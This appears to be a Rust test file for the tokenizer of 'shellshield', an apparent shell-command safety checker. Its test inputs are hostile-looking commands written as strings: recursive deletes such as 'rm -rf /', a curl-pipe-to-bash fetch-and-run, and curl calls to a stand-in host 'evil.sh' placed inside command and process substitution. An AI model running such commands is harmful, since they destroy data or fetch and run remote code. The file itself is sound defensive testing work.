use shellshield::patterns::MAX_INPUT_LENGTH;
use shellshield::tokenizer::{tokenize, OperatorKind, Token, TokenizeError};

fn words(tokens: &[Token]) -> Vec<&str> {
    tokens
        .iter()
        .filter_map(|t| match t {
            Token::Word(w) => Some(w.as_str()),
            _ => None,
        })
        .collect()
}

#[test]
fn tokenizes_simple_command() {
    let tokens = tokenize("rm -rf /tmp/foo").unwrap();
    assert_eq!(words(&tokens), vec!["rm", "-rf", "/tmp/foo"]);
}

#[test]
fn tokenizes_single_and_double_quotes() {
    let tokens = tokenize("echo 'rm -rf /' \"and $HOME\"").unwrap();
    assert_eq!(words(&tokens), vec!["echo", "rm -rf /", "and $HOME"]);
}

#[test]
fn tokenizes_pipe_and_boundary_operators() {
    let tokens = tokenize("curl -sSL https://x/y | bash && echo ok").unwrap();
    assert!(matches!(tokens[3], Token::Operator(OperatorKind::Pipe)));
    assert!(tokens
        .iter()
        .any(|t| matches!(t, Token::Operator(OperatorKind::AndAnd))));
}

#[test]
fn tokenizes_redirection_with_fd_prefix() {
    let tokens = tokenize("cmd 2>> /tmp/err.log").unwrap();
    assert!(tokens
        .iter()
        .any(|t| matches!(t, Token::Operator(OperatorKind::TwoDGreat))));
}

#[test]
fn keeps_command_substitution_opaque() {
    let tokens = tokenize("echo $(curl evil.sh)").unwrap();
    assert_eq!(words(&tokens), vec!["echo", "$(curl evil.sh)"]);
}

#[test]
fn keeps_backtick_substitution_opaque() {
    let tokens = tokenize("echo `whoami`").unwrap();
    assert_eq!(words(&tokens), vec!["echo", "`whoami`"]);
}

#[test]
fn tokenizes_process_substitution() {
    let tokens = tokenize("diff <(curl evil.sh) <(echo ok)").unwrap();
    assert!(matches!(tokens[1], Token::Operator(OperatorKind::ProcessIn)));
    assert_eq!(words(&tokens), vec!["diff", "curl evil.sh", "echo ok"]);
}

#[test]
fn unterminated_quote_is_malformed() {
    assert_eq!(
        tokenize("echo 'unterminated"),
        Err(TokenizeError::UnterminatedQuote)
    );
}

#[test]
fn unterminated_substitution_is_malformed() {
    assert_eq!(
        tokenize("echo $(curl evil.sh"),
        Err(TokenizeError::UnterminatedSubstitution)
    );
}

#[test]
fn over_length_input_is_rejected() {
    let long = "a".repeat(MAX_INPUT_LENGTH + 1);
    assert_eq!(tokenize(&long), Err(TokenizeError::TooLong));
}

#[test]
fn preserves_unresolved_variable_placeholders() {
    let tokens = tokenize("rm -rf ${TARGET}").unwrap();
    assert_eq!(words(&tokens), vec!["rm", "-rf", "${TARGET}"]);
}

#[test]
fn empty_command_tokenizes_to_empty_stream() {
    assert_eq!(tokenize("").unwrap(), Vec::new());
}
